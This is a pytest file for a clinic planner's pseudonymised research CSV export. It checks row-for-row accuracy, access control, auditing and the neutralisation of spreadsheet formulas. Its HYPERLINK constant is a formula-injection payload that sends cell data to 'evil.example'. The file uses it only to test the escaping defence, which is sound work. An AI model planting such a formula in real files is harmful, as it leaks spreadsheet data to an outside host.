"""The research export over HTTP: each CSV parsed and checked row for row."""

import csv
import io
from datetime import UTC
from datetime import date
from datetime import datetime
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlmodel import col
from sqlmodel import select

from planner.db import get_engine
from planner.demo import seed_demo
from planner.interop.research_csv import FILES
from planner.interop.research_csv import FILES_BY_NAME
from planner.interop.research_csv_cells import pseudonym
from planner.models import AdverseEvent
from planner.models import Amendment
from planner.models import Assessment
from planner.models import AuditAction
from planner.models import AuditEvent
from planner.models import InjectionSite
from planner.models import Patient
from planner.models import Product
from planner.models import Role
from planner.models import SessionStatus
from planner.models import TreatmentSession
from planner.models import User
from planner.models import VialLot
from planner.services import amendments as amendment_service
from planner.services import outcomes as outcome_service
from planner.services import sessions as session_service
from planner.services.audit import Actor
from planner.services.research_export import export_csv
from tests.conftest import Browser
from tests.factories import FACE_MAP
from tests.factories import ZONE
from tests.factories import consent_to_research
from tests.factories import make_assessment
from tests.factories import make_treatment
from tests.factories import research_csv

NOW = datetime(2026, 6, 15, 10, 0, tzinfo=UTC)
KEY = b"test"  # the app fixture's SECRET_KEY
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for results")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SIDES = {"right": "R", "left": "L", "midline": "M"}


@pytest.fixture
def admin(app, make_user):
    user = make_user(Role.ADMIN)
    browser = Browser(app.test_client())
    assert browser.login(user.email).status_code == 302
    return user, browser


@pytest.fixture
def clinic(app, session, make_patient, injector):
    """Seed demo patients, then chart one patient by hand: amended, draft, odd text."""
    seed_demo(get_engine(app), patients=5, cycles=3, seed=7, now=NOW - timedelta(60))
    patient = make_patient(
        given_name="Wilhelmina",
        family_name="Quarrington",
        mrn="ZQX-4711",
        onset_date=date(2019, 8, 2),
        affected_side="left",
    )
    treatment = make_treatment(
        session,
        injector,
        patient.id,
        (
            ("mentalis", "left", 2.5),
            ("frontalis", "right", 1.25),
            ("procerus", "midline", 4),
        ),
        when=NOW,
        sign=True,
        reason="Discussed",
        reason_for_every_warning=False,
        # A lot number may start with "-": a spreadsheet would read a formula.
        lot_number="-C77/B",
    )
    record, sites = treatment.record, treatment.sites
    amendment_service.amend_session(
        session,
        injector,
        record.id,
        {
            "version": session_service.get_session_record(session, record.id).version,
            "reason": "Dose misread",
            "corrections": [{"site_id": sites[0].id, "units": 3.75}],
            # 3.75 U is above the mentalis's 3 U per point: a new warning.
            "reasons": {"dose_above_point_limit:mentalis:left:1": "As given"},
        },
        now=NOW + timedelta(hours=1),
        zone=ZONE,
    )
    for event in (
        {"kind": "other", "severity": "mild", "description": HYPERLINK},
        {
            "kind": "eyelid_droop",
            "severity": "moderate",
            "onset_date": (NOW + timedelta(days=4)).date().isoformat(),
            "resolved_date": (NOW + timedelta(days=20)).date().isoformat(),
        },
        {"kind": "dry_eye", "severity": "mild", "description": "+ drops, @ night"},
    ):
        outcome_service.add_adverse_event(
            session,
            injector,
            record.id,
            event,
            today=(NOW + timedelta(30)).date(),
            zone=ZONE,
        )
    outcome_service.record_response(
        session,
        injector,
        record.id,
        {"onset_days": "3.5", "peak_days": "14", "wear_off_weeks": "11"},
        now=NOW + timedelta(days=14),
        zone=ZONE,
    )
    for instrument, items, self_entered in (
        ("house_brackmann", {"grade": 3}, False),
        ("saq", {f"q{n}": 1 + n % 5 for n in range(1, 10)}, True),
    ):
        make_assessment(
            session,
            injector,
            patient.id,
            instrument,
            items,
            when=NOW + timedelta(days=14),
            self_entered=self_entered,
        )
    # A second chart, left as a draft.
    make_treatment(
        session,
        injector,
        patient.id,
        when=NOW + timedelta(days=100),
        lot_number="D1",
        diluent_ml=1.0,
        reconstituted_at=None,
    )
    # A baseline before any treatment belongs to no cycle.
    newcomer = make_patient(sex="male", date_of_birth=date(2001, 2, 28))
    make_assessment(session, injector, newcomer.id, timepoint="baseline", when=NOW)
    # Every patient agreed to research use: the export is opt-in.
    consent_to_research(session, injector)
    session.expire_all()
    return patient, record


def download(browser, name):
    # Buffered, as a WSGI server would: it reads the stream to the end and closes
    # it, which ends the request and returns its database connection.
    response = browser.get(f"/exports/{name}.csv", buffered=True)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def parse(response):
    text = response.get_data(as_text=True)
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    return reader.fieldnames, rows


def by_id(rows, key):
    found = {int(row[key]): row for row in rows}
    assert len(found) == len(rows), f"{key} repeats"
    return found


def close(text, value, places):
    """The cell is the value rounded to the column's places."""
    if value is None:
        assert text == ""
        return
    assert text, f"expected {value}, got an empty cell"
    if "." in text:
        assert len(text.split(".")[1]) <= places, text
    tolerance = Decimal(5) * Decimal(10) ** -(places + 1)
    assert abs(Decimal(text) - Decimal(repr(float(value)))) <= tolerance, (text, value)


def moment(text, value):
    if value is None:
        assert text == ""
    else:
        assert text.endswith("+00:00"), text
        assert datetime.fromisoformat(text) == value


def day(text, value):
    assert text == ("" if value is None else value.isoformat())


def guarded(value):
    if value is None:
        return ""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def optional_int(text, value):
    assert text == ("" if value is None else str(value))


def age(born, when):
    on = when.astimezone(ZONE).date()
    return on.year - born.year - ((on.month, on.day) < (born.month, born.day))


def amended_ids(session):
    return set(session.exec(select(Amendment.session_id)).all())


def status_of(record, amended):
    if record.status == SessionStatus.SIGNED and record.id in amended:
        return "amended"
    return record.status.value


def test_sites_csv_matches_every_site_row_for_row(clinic, admin, session):
    patient, record = clinic
    header, rows = parse(download(admin[1], "sites"))
    assert tuple(header) == FILES_BY_NAME["sites"].column_names
    exported = by_id(rows, "site_id")
    sites = session.exec(select(InjectionSite)).all()
    assert set(exported) == {site.id for site in sites}
    amended = amended_ids(session)
    for site in sites:
        row = exported[site.id]
        treatment = session.get(TreatmentSession, site.session_id)
        product = session.get(Product, treatment.product_id)
        lot = session.get(VialLot, treatment.vial_lot_id)
        assert int(row["session_id"]) == site.session_id
        assert row["patient_ref"] == pseudonym(KEY, treatment.patient_id)
        assert int(row["cycle_number"]) == treatment.cycle_number
        moment(row["performed_at"], treatment.performed_at)
        assert row["session_status"] == status_of(treatment, amended)
        assert row["product"] == product.code
        assert row["unit_name"] == product.unit_name
        assert row["lot_number"] == guarded(lot.lot_number)
        day(row["lot_expiry"], lot.expiry_date)
        assert int(row["vial_units"]) == lot.vial_units
        close(row["diluent_ml"], lot.diluent_ml, 3)
        close(row["units_per_ml"], lot.vial_units / lot.diluent_ml, 3)
        assert int(row["site_number"]) == site.number
        assert row["muscle"] == site.muscle
        assert row["muscle_name"] == FACE_MAP.muscle(site.muscle).name
        assert row["side"] == SIDES[site.side.value]
        assert row["role"] == site.role.value
        assert row["depth"] == ("" if site.depth is None else site.depth.value)
        close(row["units"], site.units, 3)
        close(row["volume_ml"], site.units * lot.diluent_ml / lot.vial_units, 4)
        close(row["x"], site.x, 2)
        close(row["y"], site.y, 2)


def test_sites_csv_shows_the_amended_dose_and_status(clinic, admin):
    patient, record = clinic
    _, rows = parse(download(admin[1], "sites"))
    mine = sorted(
        (row for row in rows if int(row["session_id"]) == record.id),
        key=lambda row: int(row["site_number"]),
    )
    assert [(r["muscle"], r["side"], r["role"], r["units"]) for r in mine] == [
        ("mentalis", "L", "affected", "3.75"),  # was 2.5 when signed
        ("frontalis", "R", "contralateral", "1.25"),
        ("procerus", "M", "midline", "4"),
    ]
    assert {r["session_status"] for r in mine} == {"amended"}
    assert mine[0]["volume_ml"] == "0.0938"  # 3.75 U at 40 U/mL, 4 places
    assert mine[0]["lot_number"] == "'-C77/B"  # neutralised, not a formula
    assert mine[0]["units_per_ml"] == "40"


def test_sessions_csv_matches_every_session_with_its_totals(clinic, admin, session):
    _, rows = parse(download(admin[1], "sessions"))
    exported = by_id(rows, "session_id")
    records = session.exec(select(TreatmentSession)).all()
    assert set(exported) == {record.id for record in records}
    amended = amended_ids(session)
    for record in records:
        row = exported[record.id]
        patient = session.get(Patient, record.patient_id)
        product = session.get(Product, record.product_id)
        lot = session.get(VialLot, record.vial_lot_id)
        sites = session.exec(
            select(InjectionSite).where(InjectionSite.session_id == record.id)
        ).all()
        events = session.exec(
            select(AdverseEvent).where(AdverseEvent.session_id == record.id)
        ).all()
        changes = session.exec(
            select(Amendment).where(Amendment.session_id == record.id)
        ).all()
        response = outcome_service.response_for(session, record.id)
        assert row["patient_ref"] == pseudonym(KEY, record.patient_id)
        assert int(row["age_years"]) == age(patient.date_of_birth, record.performed_at)
        assert row["sex"] == patient.sex.value
        assert row["palsy_cause"] == patient.cause.value
        assert row["affected_side"] == patient.affected_side.value
        optional_int(
            row["years_since_onset"],
            None
            if patient.onset_date is None
            else age(patient.onset_date, record.performed_at),
        )
        assert int(row["cycle_number"]) == record.cycle_number
        assert row["kind"] == record.kind.value
        optional_int(row["cycle_session_id"], record.cycle_session_id)
        moment(row["performed_at"], record.performed_at)
        assert row["session_status"] == status_of(record, amended)
        moment(row["signed_at"], record.signed_at)
        assert int(row["amendment_count"]) == len(changes)
        assert row["product"] == product.code
        assert row["lot_number"] == guarded(lot.lot_number)
        close(row["units_per_ml"], lot.vial_units / lot.diluent_ml, 3)
        assert int(row["site_count"]) == len(sites)
        total = sum(site.units for site in sites)
        close(row["total_units"], total, 3)
        for role in ("affected", "contralateral", "midline"):
            units = sum(site.units for site in sites if site.role.value == role)
            close(row[f"{role}_units"], units, 3)
        close(row["total_volume_ml"], total * lot.diluent_ml / lot.vial_units, 4)
        assert row["consent_obtained"] == str(record.consent_obtained).lower()
        assert int(row["warning_count"]) == len(record.warnings)
        for name in ("onset_days", "peak_days", "wear_off_weeks"):
            close(row[name], None if response is None else getattr(response, name), 2)
        optional_int(
            row["patient_rating"], None if response is None else response.patient_rating
        )
        assert int(row["adverse_event_count"]) == len(events)


def test_sessions_csv_marks_the_draft_and_the_amended_session(clinic, admin):
    patient, record = clinic
    _, rows = parse(download(admin[1], "sessions"))
    mine = [r for r in rows if r["patient_ref"] == pseudonym(KEY, patient.id)]
    assert [(r["cycle_number"], r["session_status"]) for r in mine] == [
        ("1", "amended"),
        ("2", "draft"),
    ]
    amended, draft = mine
    assert (amended["total_units"], amended["amendment_count"]) == ("9", "1")
    assert amended["onset_days"] == "3.5"
    assert amended["adverse_event_count"] == "3"
    assert amended["years_since_onset"] == "6"
    assert (draft["site_count"], draft["total_units"], draft["signed_at"]) == (
        "0",
        "0",
        "",
    )


def test_scores_csv_has_a_row_per_score_of_every_assessment(clinic, admin, session):
    _, rows = parse(download(admin[1], "scores"))
    assessments = session.exec(select(Assessment)).all()
    assert len(rows) == sum(len(a.scores) + 1 for a in assessments)
    grouped = {}
    for row in rows:
        grouped.setdefault(int(row["assessment_id"]), []).append(row)
    assert set(grouped) == {a.id for a in assessments}
    for assessment in assessments:
        mine = grouped[assessment.id]
        patient = session.get(Patient, assessment.patient_id)
        user = session.get(User, assessment.entered_by_id)
        cycle = (
            None
            if assessment.session_id is None
            else session.get(TreatmentSession, assessment.session_id)
        )
        assert [r["component"] for r in mine] == ["headline", *assessment.scores]
        for row in mine:
            assert row["patient_ref"] == pseudonym(KEY, assessment.patient_id)
            assert int(row["age_years"]) == age(
                patient.date_of_birth, assessment.assessed_at
            )
            assert row["sex"] == patient.sex.value
            optional_int(row["session_id"], assessment.session_id)
            optional_int(row["cycle_number"], cycle and cycle.cycle_number)
            assert row["instrument"] == assessment.instrument.value
            assert row["timepoint"] == assessment.timepoint.value
            moment(row["assessed_at"], assessment.assessed_at)
            assert row["formula_version"] == assessment.formula_version
            assert row["assessor"] == (
                "patient" if assessment.self_entered else user.role.value
            )
        close(mine[0]["value"], assessment.total, 4)
        for row, value in zip(mine[1:], assessment.scores.values(), strict=True):
            if isinstance(value, str):
                assert (row["value"], row["value_text"]) == ("", guarded(value))
            else:
                close(row["value"], value, 4)
                assert row["value_text"] == ""


def test_scores_csv_keeps_text_grades_self_entry_and_baselines(clinic, admin):
    patient, _ = clinic
    _, rows = parse(download(admin[1], "scores"))
    mine = [r for r in rows if r["patient_ref"] == pseudonym(KEY, patient.id)]
    grading = {r["component"]: r for r in mine if r["instrument"] == "house_brackmann"}
    assert grading["headline"]["value"] == "3"
    assert grading["numeral"]["value_text"] == "III"
    assert grading["grade"]["assessor"] == "injector"
    saq = [r for r in mine if r["instrument"] == "saq"]
    assert {r["assessor"] for r in saq} == {"patient"}
    assert {r["cycle_number"] for r in mine} == {"1"}
    baselines = [
        r for r in rows if r["timepoint"] == "baseline" and not r["session_id"]
    ]
    assert baselines
    assert {r["cycle_number"] for r in baselines} == {""}


def test_adverse_events_csv_matches_and_neutralises_formulas(clinic, admin, session):
    patient, record = clinic
    _, rows = parse(download(admin[1], "adverse_events"))
    exported = by_id(rows, "adverse_event_id")
    events = session.exec(select(AdverseEvent)).all()
    assert set(exported) == {event.id for event in events}
    for event in events:
        row = exported[event.id]
        treatment = session.get(TreatmentSession, event.session_id)
        assert int(row["session_id"]) == event.session_id
        assert row["patient_ref"] == pseudonym(KEY, treatment.patient_id)
        assert int(row["cycle_number"]) == treatment.cycle_number
        assert row["kind"] == event.kind.value
        assert row["severity"] == event.severity.value
        assert row["description"] == guarded(event.description)
        day(row["onset_date"], event.onset_date)
        day(row["resolved_date"], event.resolved_date)
        optional_int(
            row["onset_days_after_session"],
            None
            if event.onset_date is None
            else (
                event.onset_date - treatment.performed_at.astimezone(ZONE).date()
            ).days,
        )
        moment(row["recorded_at"], event.recorded_at)
    mine = [r for r in rows if int(r["session_id"]) == record.id]
    assert [r["description"] for r in mine] == [
        "'" + HYPERLINK,
        "",
        "'+ drops, @ night",
    ]
    assert [r["onset_days_after_session"] for r in mine] == ["", "4", ""]


def test_no_file_names_or_numbers_a_patient(clinic, admin, session):
    patient, _ = clinic
    mrns = session.exec(select(Patient.mrn)).all()
    for file in FILES:
        text = download(admin[1], file.name).get_data(as_text=True)
        for secret in ("Wilhelmina", "Quarrington", "1971-05-14", *mrns):
            assert secret not in text, (file.filename, secret)


def test_downloads_are_streamed_csv_attachments_named_by_date(clinic, admin):
    for file in FILES:
        with admin[1].get(f"/exports/{file.name}.csv") as response:
            assert response.status_code == 200
            assert response.is_streamed
            # Read the header only, then hang up, as a client that cancels does.
            first = next(iter(response.response))
        assert first.startswith(",".join(file.column_names).encode())
        response = download(admin[1], file.name)
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        today = datetime.now(UTC).astimezone(ZONE).date().isoformat()
        assert response.headers["Content-Disposition"] == (
            f'attachment; filename="planner-{file.name}-{today}.csv"'
        )
        assert response.headers["Cache-Control"] == "no-store"
        assert response.data.startswith(",".join(file.column_names).encode())


def export_events(session):
    session.expire_all()
    return session.exec(
        select(AuditEvent)
        .where(AuditEvent.action == AuditAction.EXPORT)
        .order_by(col(AuditEvent.id))
    ).all()


def test_each_export_writes_one_audit_event_naming_who_and_what(clinic, admin, session):
    user, browser = admin
    download(browser, "sites")
    download(browser, "scores")
    events = export_events(session)
    assert [(e.actor_email, e.entity_type, e.patient_id) for e in events] == [
        (user.email, "research_export", None),
        (user.email, "research_export", None),
    ]
    sites = len(session.exec(select(InjectionSite.id)).all())
    assessments = len(session.exec(select(Assessment.id)).all())
    assert [e.after for e in events] == [
        {
            "file": "sites.csv",
            "records": sites,
            "pseudonymised": True,
            "patients_left_out": 0,
        },
        {
            "file": "scores.csv",
            "records": assessments,
            "pseudonymised": True,
            "patients_left_out": 0,
        },
    ]


@pytest.mark.parametrize("role", [Role.STAFF, Role.INJECTOR])
@pytest.mark.parametrize("path", ["/exports/", "/exports/sites.csv"])
def test_only_admins_may_export(login_as, session, role, path):
    response = login_as(role).get(path)
    assert response.status_code == 403
    assert not export_events(session)


@pytest.mark.parametrize("name", ["patients", "audit", "SITES", "sites.csv"])
def test_an_unknown_file_is_not_found_and_not_audited(admin, session, name):
    response = admin[1].get(f"/exports/{name}.csv")
    assert response.status_code == 404
    assert not export_events(session)


def test_options_are_refused_by_name_not_ignored(admin, session):
    response = admin[1].get(
        "/exports/sites.csv?identified=1", headers={"Accept": "application/json"}
    )
    assert response.status_code == 400
    body = response.get_json()
    assert body["fields"] == {"identified": "is not an option of this export"}
    assert "pseudonymised" in body["error"]
    assert not export_events(session)


def test_the_export_page_explains_each_file_and_links_the_dictionary(admin):
    page = admin[1].get("/exports/").get_data(as_text=True)
    assert 'href="#data-dictionary"' in page
    assert 'id="data-dictionary"' in page
    for file in FILES:
        assert f'href="/exports/{file.name}.csv"' in page
        for column in file.columns:
            assert f"<code>{column.name}</code>" in page
    assert "<code>=</code>" in page  # the formula rule, backticks as code
    assert 'href="/exports/"' in page  # the admin's menu link


def test_the_menu_offers_the_export_to_admins_only(login_as):
    assert 'href="/exports/"' not in login_as(Role.STAFF).get("/patients/").get_data(
        as_text=True
    )


def test_the_file_is_the_same_whatever_the_page_size(clinic, session, make_user):
    """Keyset pages of 2 rows give the same file as one page of everything."""
    user = make_user(Role.ADMIN)
    actor = Actor(user.id, user.email)
    for file in FILES:
        if file.name == "photo_measurements":
            continue  # no photos in this clinic: tests/views/test_photo_research.py
        if file.name == "procedures":
            continue  # none in this clinic: tests/services/test_research_procedures.py
        texts = [
            research_csv(session, actor, file.name, page_size=size)
            for size in (2, 3, 10_000)
        ]
        assert texts[0] == texts[1] == texts[2], file.name
        assert texts[0].count("\r\n") > 3


def test_the_service_refuses_an_unknown_file_and_bad_settings(session, make_user):
    user = make_user(Role.ADMIN)
    actor = Actor(user.id, user.email)
    options = {"secret_key": "test", "face_map": FACE_MAP, "zone": ZONE, "now": NOW}
    with pytest.raises(Exception, match="no such export"):
        export_csv(session, actor, "patients", **options)
    with pytest.raises(ValueError, match="secret_key"):
        export_csv(session, actor, "sites", **{**options, "secret_key": ""})
    with pytest.raises(ValueError, match="page_size"):
        export_csv(session, actor, "sites", page_size=0, **options)
    assert not export_events(session)
